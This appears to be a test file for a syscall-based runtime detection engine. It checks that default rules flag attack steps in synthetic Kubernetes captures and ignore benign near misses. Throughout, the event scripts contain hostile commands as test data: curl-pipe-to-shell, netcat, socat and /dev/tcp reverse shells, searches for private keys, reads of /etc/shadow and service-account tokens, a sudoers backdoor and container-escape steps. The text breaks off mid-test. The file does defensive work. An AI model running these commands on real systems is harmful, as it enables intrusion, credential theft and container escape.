// Kestrel's default syscall rules (rules/) over synthetic captures of real attack steps: each rule
// fires on a realistic event sequence, naming who did what and where, and stays quiet on the near
// misses an operator would otherwise be paged for. Events go through the capture writer and
// reader, the decoder, the process/fd/container state and the compiled rule set, as in replay.
import { beforeAll, describe, expect, it } from 'vitest';
import type { Alert } from '../../src/engine/alert.js';
import type { RuleSet } from '../../src/engine/ruleset.js';
import { defaultRulesPath } from '../../src/rules/defaults.js';
import { loadRules } from '../../src/index.js';
import { replayAlerts, scenarioCapture } from '../sources/syscall/capture/capture-helpers.js';

// A node: an SSH session of alice, a containerd shim, and two pods (a web server and a Node.js
// service that has been up for ten minutes).
const BASE = `
proc systemd pid=1 exe=/sbin/init
proc sshd pid=20 parent=1 exe=/usr/sbin/sshd
proc bash pid=200 parent=20 exe=/bin/bash tty=34816 uid=1000 gid=1000 loginuid=1000 cwd=/home/alice
proc bash pid=250 parent=20 exe=/bin/bash tty=34817 loginuid=1000 cwd=/root
proc containerd-shim pid=300 parent=1 exe=/usr/bin/containerd-shim-runc-v2
container web1 name=k8s_nginx_web-0 image=docker.io/library/nginx:1.25 labels=io.kubernetes.pod.namespace=shop,io.kubernetes.pod.name=web-0
container app1 name=k8s_cart_cart-7d9 image=ghcr.io/acme/cart:2.3 labels=io.kubernetes.pod.namespace=shop,io.kubernetes.pod.name=cart-7d9
container sys1 name=k8s_csi_ebs-node image=public.ecr.aws/ebs-csi-driver/aws-ebs-csi-driver:1.30 labels=io.kubernetes.pod.namespace=kube-system,io.kubernetes.pod.name=ebs-csi-node-x
proc nginx pid=310 parent=300 exe=/usr/sbin/nginx container=web1 uid=101 args="-g daemon off;"
proc node pid=410 parent=300 exe=/usr/local/bin/node container=app1 uid=1000 args=server.js start=-600000000000
proc cart pid=420 parent=300 exe=/app/cart container=app1 uid=1000
proc ebs-plugin pid=510 parent=300 exe=/bin/aws-ebs-csi-driver container=sys1
`;

let all: RuleSet;
let first: RuleSet;
const fired = new Set<string>();

async function replay(script: string, ruleset = all): Promise<Alert[]> {
  const { alerts, error } = await replayAlerts(scenarioCapture(BASE + script), ruleset);
  expect(error).toBeUndefined();
  return alerts;
}
const rulesOf = (alerts: Alert[]) => alerts.map((a) => a.rule);

/** The alerts are exactly `rules` (in evaluation order); returns the one of rule `which`. */
async function expectRules(script: string, rules: string[], which = rules[0]): Promise<Alert> {
  const alerts = await replay(script);
  expect(rulesOf(alerts)).toEqual(rules);
  for (const r of rules) fired.add(r);
  return alerts.find((a) => a.rule === which)!;
}
const expectQuiet = async (script: string) => expect(rulesOf(await replay(script))).toEqual([]);

/** Who/where fields of an alert in the `web1` pod. */
const IN_WEB_POD = {
  'container.id': expect.stringMatching(/^[0-9a-f]{12}$/),
  'container.name': 'k8s_nginx_web-0',
  'container.image': 'docker.io/library/nginx:1.25',
  'k8s.ns.name': 'shop',
  'k8s.pod.name': 'web-0',
};
const IN_CART_POD = { ...IN_WEB_POD, 'container.name': 'k8s_cart_cart-7d9', 'container.image': 'ghcr.io/acme/cart:2.3', 'k8s.pod.name': 'cart-7d9' };
const ON_HOST = { 'container.id': 'host', 'container.name': 'host', 'container.image': null, 'k8s.ns.name': null, 'k8s.pod.name': null };

beforeAll(async () => {
  const a = await loadRules([defaultRulesPath()], { hostname: 'node-1', ruleMatching: 'all' });
  expect(a.errors).toEqual([]);
  all = a.ruleset;
  first = (await loadRules([defaultRulesPath()], { hostname: 'node-1', ruleMatching: 'first' })).ruleset;
});

describe('shells and programs started', () => {
  it('Run shell untrusted: nginx on the host runs sh -c id', async () => {
    const a = await expectRules(
      `proc nginx pid=100 parent=1 exe=/usr/sbin/nginx uid=33 args="-g daemon off;"
       100 spawn /bin/sh -c id`,
      ['Run shell untrusted'],
    );
    expect(a.priority).toBe('Warning');
    expect(a.output_fields).toMatchObject({
      'proc.name': 'sh',
      'proc.cmdline': 'sh -c id',
      'proc.pname': 'nginx',
      'proc.pcmdline': 'nginx -g daemon off;',
      'proc.pexepath': '/usr/sbin/nginx',
      'user.name': 'www-data',
      ...ON_HOST,
    });
    expect(a.output).toContain('Shell spawned by a server program (shell=sh cmdline=sh -c id parent=nginx');
  });

  it('Run shell untrusted: a web shell in a pod, a CGI script below apache2, a Node.js server up for minutes', async () => {
    const web = await expectRules('310 spawn /bin/sh -c "curl -s http://203.0.113.9/x | sh"', ['Run shell untrusted']);
    expect(web.output_fields).toMatchObject({ 'proc.cmdline': 'sh -c curl -s http://203.0.113.9/x | sh', 'proc.pname': 'nginx', ...IN_WEB_POD });
    const cgi = await expectRules(
      `proc apache2 pid=100 parent=1 exe=/usr/sbin/apache2 uid=33
       100 spawn /usr/bin/perl /usr/lib/cgi-bin/status.pl
       101 spawn /bin/bash -c "uname -a"`,
      ['Run shell untrusted'],
    );
    expect(cgi.output_fields).toMatchObject({ 'proc.pname': 'perl', 'proc.aname[2]': 'apache2' });
    const node = await expectRules('410 spawn /bin/sh -c "cat /etc/passwd"', ['Run shell untrusted']);
    expect(node.output_fields).toMatchObject({ 'proc.pname': 'node', 'proc.pcmdline': 'node server.js', ...IN_CART_POD });
  });

  it('Run shell untrusted near misses: an ordinary shell, a server running a non-shell, a starting Node.js, node on the host, piped logs, the second shell', async () => {
    await expectQuiet(`
      proc nginx pid=100 parent=1 exe=/usr/sbin/nginx uid=33
      proc apache2 pid=110 parent=1 exe=/usr/sbin/apache2 uid=33
      proc node pid=120 parent=200 exe=/usr/bin/node args=build.js start=-600000000000
      container app2 image=ghcr.io/acme/api:1.0
      proc node pid=130 parent=300 exe=/usr/bin/node container=app2 args="/usr/bin/npm start"
      200 spawn /bin/sh -c id
      100 spawn /usr/sbin/nginx -s reload
      130 spawn /bin/sh -c "node server.js"
      120 spawn /bin/sh -c "tsc -p ."
      110 spawn /bin/sh -c "/usr/bin/rotatelogs /var/log/apache2/access.%Y 86400"
    `);
    // only the first shell below the server alerts
    const alerts = await replay(`
      proc nginx pid=100 parent=1 exe=/usr/sbin/nginx uid=33
      100 spawn /bin/sh -c "sh -c id"
      101 spawn /bin/sh -c id
    `);
    expect(alerts.map((a) => [a.rule, a.output_fields['proc.pname']])).toEqual([['Run shell untrusted', 'nginx']]);
  });

  it('Terminal shell in container: kubectl exec -it into a pod', async () => {
    const a = await expectRules(
      `proc runc pid=430 parent=300 exe=/usr/bin/runc comm=runc:[2:INIT] container=app1 uid=1000
       430 execve tty=34818 /bin/sh`,
      ['Terminal shell in container'],
    );
    expect(a.priority).toBe('Notice');
    expect(a.output_fields).toMatchObject({ 'proc.name': 'sh', 'proc.tty': 34818, 'user.uid': 1000, ...IN_CART_POD });
  });

  it('Terminal shell in container near misses: no terminal, a terminal on the host', async () => {
    await expectQuiet(`
      420 spawn /bin/sh -c "date"
      250 spawn /bin/bash
    `);
  });

  it('Netcat Remote Code Execution in Container: nc -e, ncat --sh-exec, socat EXEC', async () => {
    const a = await expectRules('420 spawn /usr/bin/nc -e /bin/sh 203.0.113.9 4444', ['Netcat Remote Code Execution in Container', 'Launch Suspicious Network Tool in Container']);
    expect(a.priority).toBe('Warning');
    expect(a.output_fields).toMatchObject({ 'proc.cmdline': 'nc -e /bin/sh 203.0.113.9 4444', 'proc.pname': 'cart', ...IN_CART_POD });
    await expectRules('420 spawn /usr/bin/ncat --sh-exec "/bin/bash -i" 203.0.113.9 4444', ['Netcat Remote Code Execution in Container', 'Launch Suspicious Network Tool in Container']);
    await expectRules('420 spawn /usr/bin/socat TCP:203.0.113.9:4444 EXEC:/bin/sh,pty,stderr', ['Netcat Remote Code Execution in Container', 'Launch Suspicious Network Tool in Container']);
  });

  it('Launch Suspicious Network Tool in Container: nmap in a pod; plain nc in a pod is not remote code execution; tools on the host do not fire', async () => {
    const a = await expectRules('420 spawn /usr/bin/nmap -sT 10.96.0.0/16', ['Launch Suspicious Network Tool in Container']);
    expect(a.output_fields).toMatchObject({ 'proc.name': 'nmap', 'proc.cmdline': 'nmap -sT 10.96.0.0/16', ...IN_CART_POD });
    await expectRules('420 spawn /usr/bin/nc -zv 10.96.0.1 443', ['Launch Suspicious Network Tool in Container']);
    await expectQuiet('200 spawn /usr/bin/nmap -sT 10.0.0.0/24');
  });

  it('Launch Package Management Process in Container: apt-get in a pod, once (not for the dpkg it runs); not on the host', async () => {
    const a = await expectRules(
      `310 spawn /usr/bin/apt-get install -y netcat-openbsd
       311 spawn /usr/bin/dpkg -i /var/cache/apt/archives/netcat.deb`,
      ['Launch Package Management Process in Container'],
    );
    expect(a.priority).toBe('Error');
    expect(a.output_fields).toMatchObject({ 'proc.cmdline': 'apt-get install -y netcat-openbsd', 'proc.pname': 'nginx', ...IN_WEB_POD });
    await expectQuiet('250 spawn /usr/bin/apt-get upgrade');
  });

  it('Drop and execute new binary in container: a binary of the upper layer; the image own binaries do not fire', async () => {
    const a = await expectRules('420 spawn flags=EXE_UPPER_LAYER /tmp/xmrig --donate-level 1', ['Drop and execute new binary in container']);
    expect(a.priority).toBe('Critical');
    expect(a.output_fields).toMatchObject({ 'proc.exepath': '/tmp/xmrig', 'proc.cmdline': 'xmrig --donate-level 1', 'proc.pname': 'cart', ...IN_CART_POD });
    await expectQuiet('420 spawn flags=EXE_LOWER_LAYER /usr/bin/env');
  });

  it('Execution from /dev/shm: a binary there, or a shell given a script there', async () => {
    const a = await expectRules('200 spawn /dev/shm/.x/payload -d', ['Execution from /dev/shm']);
    expect(a.output_fields).toMatchObject({ 'proc.exepath': '/dev/shm/.x/payload', 'proc.cmdline': 'payload -d', 'proc.pname': 'bash', 'user.name': 'alice', 'user.loginuid': 1000, ...ON_HOST });
    await expectRules('420 spawn /bin/sh /dev/shm/stage2.sh', ['Execution from /dev/shm']);
  });

  it('Execution from /dev/shm near misses: the same binary from /tmp, a shell script elsewhere', async () => {
    await expectQuiet(`
      200 spawn /tmp/payload -d
      200 spawn /bin/sh /home/alice/build.sh
      200 spawn res=ENOENT /dev/shm/missing
    `);
  });

  it('Fileless execution via memfd_create: execveat of a memfd; runc protecting its binary does not fire', async () => {
    const a = await expectRules(
      `200 spawn /usr/bin/python3 loader.py
       201 memfd_create x
       201 execveat flags=EXE_FROM_MEMFD exepath=/memfd:x argv0=kworker comm=kworker dirfd=3 ""`,
      ['Fileless execution via memfd_create'],
    );
    expect(a.priority).toBe('Critical');
    expect(a.output_fields).toMatchObject({ 'proc.exepath': '/memfd:x', 'proc.name': 'kworker', 'proc.pname': 'bash', 'user.name': 'alice' });
    await expectQuiet(`
      proc runc pid=600 parent=300 exe=/usr/bin/runc
      600 memfd_create runc_cloned:/proc/self/exe
      600 execveat flags=EXE_FROM_MEMFD exepath=/memfd:runc_cloned:/proc/self/exe argv0=runc dirfd=3 ""
    `);
  });

  it('Search Private Keys or Passwords: grep for key headers, recursive grep for passwords, find for SSH keys and kubeconfigs', async () => {
    const a = await expectRules('420 spawn /bin/grep -rl "BEGIN RSA PRIVATE KEY" /', ['Search Private Keys or Passwords']);
    expect(a.output_fields).toMatchObject({ 'proc.name': 'grep', 'proc.cmdline': 'grep -rl BEGIN RSA PRIVATE KEY /', ...IN_CART_POD });
    await expectRules('200 spawn /bin/grep -Ri password /etc /home', ['Search Private Keys or Passwords']);
    await expectRules('200 spawn /usr/bin/find / -name id_ed25519', ['Search Private Keys or Passwords']);
    await expectRules('200 spawn /usr/bin/find / -name .kube/config', ['Search Private Keys or Passwords']);
  });

  it('Search Private Keys or Passwords near misses: grep for a password key in one file, find for sources', async () => {
    await expectQuiet(`
      200 spawn /bin/grep password_min_length config.yaml
      200 spawn /usr/bin/find . -name *.ts
      200 spawn /bin/grep -r TODO src
    `);
  });

  it('PTRACE attached to process: attach and poke; debuggers and anti-debug TRACEME do not fire', async () => {
    const a = await expectRules(
      `200 spawn /tmp/inject 310
       201 ptrace PTRACE_ATTACH 310`,
      ['PTRACE attached to process'],
    );
    expect(a.output_fields).toMatchObject({ 'evt.arg.request': 'PTRACE_ATTACH', 'proc.name': 'inject', 'proc.cmdline': 'inject 310', 'user.name': 'alice' });
    await expectQuiet(`
      200 spawn /usr/bin/strace -p 310
      201 ptrace PTRACE_SEIZE 310
      200 spawn /tmp/app
      202 ptrace PTRACE_TRACEME 0
    `);
  });
});

describe('network', () => {
  it('Outbound connection by network tool: nc on the host, socat non-blocking in a pod, loopback included', async () => {
    const a = await expectRules(
      `200 spawn /usr/bin/nc 203.0.113.5 4444
       201 connect 203.0.113.5:4444`,
      ['Outbound connection by network tool'],
    );
    expect(a.priority).toBe('Warning');
    expect(a.output_fields).toMatchObject({
      'fd.name': '10.0.0.2:40000->203.0.113.5:4444',
      'fd.rip': '203.0.113.5',
      'fd.rport': 4444,
      'proc.name': 'nc',
      'proc.cmdline': 'nc 203.0.113.5 4444',
      'proc.pname': 'bash',
      'user.name': 'alice',
      ...ON_HOST,
    });
    const b = await expectRules(
      `420 spawn /usr/bin/socat - TCP:10.96.0.1:443
       421 connect res=EINPROGRESS 10.96.0.1:443`,
      ['Launch Suspicious Network Tool in Container', 'Outbound connection by network tool'],
      'Outbound connection by network tool',
    );
    expect(b.output_fields).toMatchObject({ 'fd.rport': 443, 'evt.res': 'EINPROGRESS', 'proc.name': 'socat', ...IN_CART_POD });
    await expectRules(
      `200 spawn /usr/bin/ncat 127.0.0.1 10250
       201 connect from=127.0.0.1:51000 127.0.0.1:10250`,
      ['Outbound connection by network tool'],
    );
  });

  it('Outbound connection by network tool near misses: curl, a refused connect, a Unix socket', async () => {
    await expectQuiet(`
      200 spawn /usr/bin/curl https://example.com
      201 connect 93.184.216.34:443
      200 spawn /usr/bin/nc 203.0.113.5 4444
      202 connect res=ECONNREFUSED 203.0.113.5:4444
    `);
  });

  it('Redirect STDOUT/STDIN to Network Connection in Container: a reverse shell dup2s the socket onto 0, 1 and 2', async () => {
    const alerts = await replay(`
      420 spawn /bin/bash -c "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
      421 connect 203.0.113.9:4444
      421 dup2 3 0
      421 dup2 3 1
    `);
    expect(rulesOf(alerts)).toEqual(['Redirect STDOUT/STDIN to Network Connection in Container', 'Redirect STDOUT/STDIN to Network Connection in Container']);
    fired.add('Redirect STDOUT/STDIN to Network Connection in Container');
    expect(alerts[0]!.output_fields).toMatchObject({ 'fd.name': '10.0.0.2:40000->203.0.113.9:4444', 'evt.rawres': 0, 'proc.name': 'bash', ...IN_CART_POD });
  });

  it('Redirect STDOUT/STDIN near misses: a file dup2ed onto stdout, a socket dup2ed elsewhere, the same on the host', async () => {
    await expectQuiet(`
      420 spawn /bin/sh -c "exec >/tmp/out.log"
      421 openat /tmp/out.log O_WRONLY|O_CREAT
      421 dup2 3 1
      421 connect 203.0.113.9:4444
      421 dup2 4 9
      200 spawn /bin/bash -c "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
      201 connect 203.0.113.9:4444
      201 dup2 3 0
    `);
  });

  it('Contact cloud metadata service from container: a pod reads the instance metadata; kube-system pods and the host do not fire', async () => {
    const a = await expectRules('420 connect 169.254.169.254:80', ['Contact cloud metadata service from container']);
    expect(a.output_fields).toMatchObject({ 'fd.name': '10.0.0.2:40000->169.254.169.254:80', 'proc.name': 'cart', ...IN_CART_POD });
    await expectQuiet(`
      510 connect 169.254.169.254:80
      200 connect 169.254.169.254:80
      420 connect 10.96.0.10:53
    `);
  });

  it('Packet socket created in container: AF_PACKET in a pod; inet sockets and the host do not fire', async () => {
    const a = await expectRules('420 socket AF_PACKET SOCK_RAW 768', ['Packet socket created in container']);
    expect(a.output_fields).toMatchObject({ 'proc.name': 'cart', ...IN_CART_POD });
    await expectQuiet(`
      420 socket AF_INET SOCK_STREAM
      200 socket AF_PACKET SOCK_RAW 768
    `);
  });
});

describe('credentials', () => {
  it('Read sensitive file untrusted: cat /etc/shadow on the host and in a pod', async () => {
    const host = await expectRules(
      `250 spawn /usr/bin/cat /etc/shadow
       251 openat /etc/shadow O_RDONLY|O_CLOEXEC`,
      ['Read sensitive file untrusted'],
    );
    expect(host.priority).toBe('Warning');
    expect(host.output_fields).toMatchObject({
      'fd.name': '/etc/shadow',
      'proc.name': 'cat',
      'proc.exepath': '/usr/bin/cat',
      'proc.cmdline': 'cat /etc/shadow',
      'proc.pname': 'bash',
      'user.name': 'root',
      'user.loginuid': 1000,
      ...ON_HOST,
    });
    const pod = await expectRules(
      `310 spawn /bin/cat /etc/shadow
       311 openat /etc/shadow O_RDONLY`,
      ['Read sensitive file untrusted'],
    );
    expect(pod.output_fields).toMatchObject({ 'fd.name': '/etc/shadow', 'proc.cmdline': 'cat /etc/shadow', 'proc.pname': 'nginx', ...IN_WEB_POD });
    await expectRules(
      `200 spawn /usr/bin/python3 steal.py
       201 openat /root/.ssh/id_rsa O_RDONLY`,
      ['Read sensitive file untrusted'],
    );
  });

  it('Read sensitive file untrusted near misses: another file, a failed open, sshd, passwd, a write-only open', async () => {
    await expectQuiet(`
      250 spawn /usr/bin/cat /etc/hostname
      251 openat /etc/hostname O_RDONLY
      250 spawn /usr/bin/cat /etc/shadow
      252 openat res=EACCES /etc/shadow O_RDONLY
      20 openat /etc/shadow O_RDONLY
      250 spawn /usr/bin/passwd alice
      253 openat /etc/shadow O_RDONLY
    `);
  });

  it('K8s service account token read by unexpected process: cat, a scripting interpreter and a terminal in a pod; cat of a pod token on the node', async () => {
    const a = await expectRules(
      `420 spawn /bin/cat /var/run/secrets/kubernetes.io/serviceaccount/token
       421 openat /var/run/secrets/kubernetes.io/serviceaccount/token O_RDONLY`,
      ['K8s service account token read by unexpected process'],
    );
    expect(a.output_fields).toMatchObject({ 'fd.name': '/var/run/secrets/kubernetes.io/serviceaccount/token', 'proc.name': 'cat', 'proc.pname': 'cart', ...IN_CART_POD });
    await expectRules(
      `310 spawn /usr/bin/python3 -c x
       311 openat /run/secrets/kubernetes.io/serviceaccount/..data/token O_RDONLY`,
      ['K8s service account token read by unexpected process'],
    );
    await expectRules(
      `proc runc pid=430 parent=300 exe=/usr/bin/runc container=app1
       430 execve tty=34818 /app/cart --debug
       430 openat /var/run/secrets/kubernetes.io/serviceaccount/token O_RDONLY`,
      ['K8s service account token read by unexpected process'],
    );
    const node = await expectRules(
      `250 spawn /usr/bin/cat /var/lib/kubelet/pods/6f1c/volumes/kubernetes.io~projected/kube-api-access-7xk2p/token
       251 openat /var/lib/kubelet/pods/6f1c/volumes/kubernetes.io~projected/kube-api-access-7xk2p/token O_RDONLY`,
      ['K8s service account token read by unexpected process'],
    );
    expect(node.output_fields).toMatchObject({ 'proc.name': 'cat', 'user.name': 'root', ...ON_HOST });
  });

  it('K8s service account token near misses: the application itself, the kubelet, the CA certificate next to the token', async () => {
    await expectQuiet(`
      proc kubelet pid=30 parent=1 exe=/usr/bin/kubelet
      420 openat /var/run/secrets/kubernetes.io/serviceaccount/token O_RDONLY
      30 openat /var/lib/kubelet/pods/6f1c/volumes/kubernetes.io~projected/kube-api-access-7xk2p/token O_RDONLY
      420 spawn /bin/cat /var/run/secrets/kubernetes.io/serviceaccount/ca.crt
      421 openat /var/run/secrets/kubernetes.io/serviceaccount/ca.crt O_RDONLY
    `);
  });

  it('Create Symlink Over Sensitive Files and Create Hardlink Over Sensitive Files', async () => {
    const s = await expectRules(
      `200 spawn /usr/bin/ln -s /etc/shadow /var/www/html/s.txt
       201 symlinkat /etc/shadow /var/www/html/s.txt`,
      ['Create Symlink Over Sensitive Files'],
    );
    expect(s.output_fields).toMatchObject({ 'evt.arg.target': '/etc/shadow', 'evt.arg.linkpath': '/var/www/html/s.txt', 'proc.cmdline': 'ln -s /etc/shadow /var/www/html/s.txt', 'user.name': 'alice' });
    await expectRules('420 symlink / /tmp/hostroot', ['Create Symlink Over Sensitive Files']);
    const h = await expectRules(
      `250 spawn /usr/bin/ln /etc/shadow /tmp/sh
       251 link /etc/shadow /tmp/sh`,
      ['Create Hardlink Over Sensitive Files'],
    );
    expect(h.output_fields).toMatchObject({ 'evt.arg.oldpath': '/etc/shadow', 'evt.arg.newpath': '/tmp/sh', 'proc.name': 'ln' });
  });

  it('link near misses: links to ordinary files', async () => {
    await expectQuiet(`
      200 symlinkat /etc/hostname /tmp/h
      200 linkat /etc/hosts /tmp/hosts
    `);
  });
});

describe('files', () => {
  it('Modify Shell Configuration File: a line appended to ~/.bashrc, a script dropped into /etc/profile.d in a pod', async () => {
    const a = await expectRules('200 openat /home/alice/.bashrc O_WRONLY|O_APPEND', ['Modify Shell Configuration File']);
    expect(a.output_fields).toMatchObject({ 'fd.name': '/home/alice/.bashrc', 'proc.name': 'bash', 'user.name': 'alice', 'user.loginuid': 1000, ...ON_HOST });
    const etc = await expectRules(
      `310 spawn /bin/sh -c "echo x > /etc/profile.d/zz.sh"
       311 openat /etc/profile.d/zz.sh O_WRONLY|O_CREAT|O_TRUNC`,
      ['Run shell untrusted', 'Modify Shell Configuration File', 'Write below etc'],
    );
    expect(etc.output_fields['proc.pname']).toBe('nginx');
    // with Falco's default rule_matching (first), the more specific rule is the one reported
    const { alerts } = await replayAlerts(scenarioCapture(`${BASE}\n200 openat /etc/profile.d/zz.sh O_WRONLY|O_CREAT`), first);
    expect(rulesOf(alerts)).toEqual(['Modify Shell Configuration File']);
  });

  it('Modify Shell Configuration File near misses: reading it, useradd copying /etc/skel, a history file', async () => {
    await expectQuiet(`
      200 openat /home/alice/.bashrc O_RDONLY
      250 spawn /usr/sbin/useradd -m bob
      251 openat /home/bob/.bashrc O_WRONLY|O_CREAT|O_EXCL
      200 openat /home/alice/.bash_history O_WRONLY|O_APPEND
    `);
  });

  it('Write below etc: sudoers drop-in by hand, a cron job created with creat(2), /etc/passwd edited in a pod', async () => {
    const a = await expectRules(
      `250 spawn /usr/bin/tee /etc/sudoers.d/99-backdoor
       251 openat mode=0644 /etc/sudoers.d/99-backdoor O_WRONLY|O_CREAT|O_TRUNC`,
      ['Write below etc'],
    );
    expect(a.priority).toBe('Error');
    expect(a.output_fields).toMatchObject({ 'fd.name': '/etc/sudoers.d/99-backdoor', 'proc.name': 'tee', 'proc.cmdline': 'tee /etc/sudoers.d/99-backdoor', 'proc.pname': 'bash', 'user.name': 'root', 'user.loginuid': 1000, ...ON_HOST });
    await expectRules(
      `250 spawn /usr/bin/python3 -c x
       251 creat /etc/cron.d/update`,
      ['Write below etc'],
    );
    const pod = await expectRules(
      `420 spawn /bin/sed -i s/x/y/ /etc/passwd
       421 openat /etc/passwd O_RDWR`,
      ['Write below etc'],
    );
    expect(pod.output_fields).toMatchObject({ 'fd.name': '/etc/passwd', ...IN_CART_POD });
  });

  it('Write below etc near misses: reads, writes elsewhere, a package manager and its scripts, useradd, a container runtime lock', async () => {
    await expectQuiet(`
      proc podman pid=40 parent=1 exe=/usr/bin/podman
      200 openat /etc/hosts O_RDONLY
      200 openat /home/alice/notes O_WRONLY|O_CREAT
      250 spawn /usr/bin/dpkg -i nginx.deb
      251 openat /etc/nginx/nginx.conf.dpkg-new O_WRONLY|O_CREAT
      251 spawn /bin/sh /var/lib/dpkg/info/nginx.postinst configure
      252 spawn /bin/sed -i s/a/b/ /etc/nginx/sites-enabled/default
      253 openat /etc/nginx/sites-enabled/default O_RDWR
      250 spawn /usr/sbin/useradd bob
      254 openat /etc/passwd+ O_WRONLY|O_CREAT
      40 openat /etc/containers/networks/netavark.lock O_RDWR|O_CREAT
    `);
  });

  it('image unpacking by the container runtime (podman re-executed as exe in a chroot) fires no file rule', async () => {
    await expectQuiet(`
      proc podman pid=40 parent=250 exe=/usr/bin/podman args="import image.tar localhost/x"
      40 spawn exepath=/usr/bin/podman /proc/self/exe / /var/lib/containers/storage/overlay/59f7/diff
      41 openat /etc/passwd O_WRONLY|O_CREAT|O_CLOEXEC
      41 openat /bin/busybox O_WRONLY|O_CREAT|O_CLOEXEC
      41 openat /root/.bashrc O_WRONLY|O_CREAT|O_TRUNC
      41 openat /var/log/dpkg.log O_WRONLY|O_CREAT|O_TRUNC
    `);
    // the same writes by a program named exe that is not a runtime do
    const alerts = await replay(`
      200 spawn /tmp/exe
      201 openat /etc/passwd O_WRONLY|O_CREAT
    `);
    expect(rulesOf(alerts)).toEqual(['Write below etc']);
  });

  it('Write below binary dir: a program planted in /usr/local/bin; dpkg installing one does not fire', async () => {
    const a = await expectRules(
      `250 spawn /usr/bin/cp /tmp/kubectl /usr/local/bin/kubectl
       251 openat /usr/local/bin/kubectl O_WRONLY|O_CREAT|O_TRUNC`,
      ['Write below binary dir'],
    );
    expect(a.output_fields).toMatchObject({ 'fd.name': '/usr/local/bin/kubectl', 'proc.cmdline': 'cp /tmp/kubectl /usr/local/bin/kubectl', ...ON_HOST });
    await expectQuiet(`
      250 spawn /usr/bin/dpkg -i kubectl.deb
      251 openat /usr/bin/kubectl.dpkg-new O_WRONLY|O_CREAT
      200 openat /usr/bin/ls O_RDONLY
    `);
  });

  it('Create files below dev: a hidden file in /dev; device nodes and /dev/shm do not fire', async () => {
    const a = await expectRules(
      `250 spawn /usr/bin/touch /dev/.lib
       251 openat /dev/.lib O_WRONLY|O_CREAT|O_NONBLOCK`,
      ['Create files below dev'],
    );
    expect(a.output_fields).toMatchObject({ 'fd.name': '/dev/.lib', 'proc.name': 'touch', ...ON_HOST });
    await expectQuiet(`
      200 openat /dev/null O_WRONLY|O_CREAT|O_TRUNC
      200 openat /dev/tty1 O_WRONLY|O_CREAT
      200 openat /dev/shm/pg.1 O_RDWR|O_CREAT
      200 openat /dev/.lib O_RDONLY
    `);
  });

  it('Clear Log Activities: auth.log truncated by hand; logrotate and appends do not fire', async () => {
    const a = await expectRules(
      `250 spawn /usr/bin/truncate -s0 /var/log/auth.log
       251 openat /var/log/auth.log O_WRONLY|O_CREAT|O_TRUNC`,
      ['Clear Log Activities'],
    );
    expect(a.output_fields).toMatchObject({ 'fd.name': '/var/log/auth.log', 'proc.name': 'truncate', 'user.loginuid': 1000 });
    await expectQuiet(`
      proc logrotate pid=60 parent=1 exe=/usr/sbin/logrotate
      60 openat /var/log/syslog O_WRONLY|O_TRUNC
      200 openat /var/log/app.log O_WRONLY|O_APPEND
    `);
  });
});

describe('container escapes', () => {
  it('Detect release_agent File Container Escapes: a pod writes a cgroup release_agent; the host does not fire', async () => {
    const a = await expectRules('310 openat /tmp/cgrp/release_agent O_WRONLY', ['Detect release_agent File Container Escapes']);
    expect(a.priority).toBe('Critical');
    expect(a.output_fields).toMatchObject({ 'fd.name': '/tmp/cgrp/release_agent', 'proc.name': 'nginx', ...IN_WEB_POD });
    await expectQuiet('250 openat /sys/fs/cgroup/x/release_agent O_WRONLY');
  });

  it('Change thread namespace in container: nsenter into the host from a hostPID pod', async () => {
    const a = await expectRules(
      `420 spawn /usr/bin/nsenter -t 1 -m -u -i -n sh
       421 openat /proc/1/ns/mnt O_RDONLY
       421 raw setns fd=3 nstype=0x20000`,
      ['Change thread namespace in container'],
    );
    expect(a.output_fields).toMatchObject({ 'evt.arg.nstype': 'CLONE_NEWNS', 'fd.name': '/proc/1/ns/mnt', 'proc.cmdline': 'nsenter -t 1 -m -u -i -n sh', ...IN_CART_POD });
  });

  it('Change thread namespace near misses: runc joining a pod for kubectl exec, nsenter on the host', async () => {
    await expectQuiet(`
      proc runc pid=440 parent=300 exe=/usr/bin/runc comm=runc:[1:CHILD] container=app1
      440 openat /proc/420/ns/mnt O_RDONLY
      440 raw setns fd=3 nstype=0x20000
      250 spawn /usr/bin/nsenter -t 420 -n ip a
      251 openat /proc/420/ns/net O_RDONLY
      251 raw setns fd=3 nstype=0x40000000
    `);
  });

  it('Change namespace privileges via unshare: an unprivileged pod process makes a user namespace', async () => {
    const a = await expectRules(
      `420 spawn /usr/bin/unshare -Ur sh
       421 raw unshare flags=0x10000000`,
      ['Change namespace privileges via unshare'],
    );
    expect(a.output_fields).toMatchObject({ 'evt.arg.flags': 'CLONE_NEWUSER', 'proc.name': 'unshare', 'user.uid': 1000, ...IN_CART_POD });
  });

  it('unshare near misses: root with CAP_SYS_ADMIN in a pod, chrome sandbox, the host', async () => {
    await expectQuiet(`
      310 spawn uid=0 /usr/bin/unshare -m sh
      311 raw unshare flags=0x20000
      420 spawn /opt/google/chrome/chrome --headless
      421 raw unshare flags=0x10000000
      200 raw unshare flags=0x10000000
    `);
  });

  it('Mount in container: a privileged pod mounts the node disk', async () => {
    const a = await expectRules(
      `container priv1 name=k8s_debug_dbg image=docker.io/library/busybox:1.36 privileged=true labels=io.kubernetes.pod.namespace=default,io.kubernetes.pod.name=dbg
       proc sh pid=700 parent=300 exe=/bin/sh container=priv1
       700 spawn /bin/mount /dev/sda1 /mnt
       701 raw mount dev=/dev/sda1 dir=/mnt type=ext4 flags=0`,
      ['Mount in container'],
    );
    expect(a.output_fields).toMatchObject({
      'evt.arg.dev': '/dev/sda1',
      'evt.arg.dir': '/mnt',
      'evt.arg.type': 'ext4',
      'container.privileged': true,
      'proc.cmdline': 'mount /dev/sda1 /mnt',
      'k8s.pod.name': 'dbg',
    });
  });

  it('Mount in container near misses: runc setting a container up, a CSI driver in kube-system, the host', async () => {
    await expectQuiet(`
      proc runc pid=440 parent=300 exe=/usr/bin/runc comm=runc:[2:INIT] container=app1
      proc exe pid=450 parent=300 exe=/usr/sbin/runc args=init container=app1
      440 raw mount dev=proc dir=/proc type=proc flags=0
      450 raw mount dev=/proc/self/exe dir=/run/runc/x flags=0x1000
      510 spawn /bin/mount -t ext4 /dev/nvme1n1 /var/lib/kubelet/pods/x/mount
      511 raw mount dev=/dev/nvme1n1 dir=/var/lib/kubelet/pods/x/mount type=ext4 flags=0
      250 raw mount dev=/dev/sdb1 dir=/data type=xfs flags=0
    `);
  });

  it("Launch Privileged Container: a privileged container's first process; its later processes, and an unprivileged container's first, do not fire", async () => {
    const a = await expectRules(
